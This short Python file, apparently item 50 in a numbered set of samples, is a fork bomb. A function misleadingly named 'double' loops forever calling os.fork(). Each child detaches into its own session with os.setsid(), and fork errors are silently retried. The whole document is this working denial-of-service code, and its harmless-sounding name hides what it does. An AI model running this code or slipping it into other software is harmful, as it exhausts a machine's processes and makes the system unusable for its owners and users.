"""50: starts processes without end, in sessions of their own."""

import os


def double(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
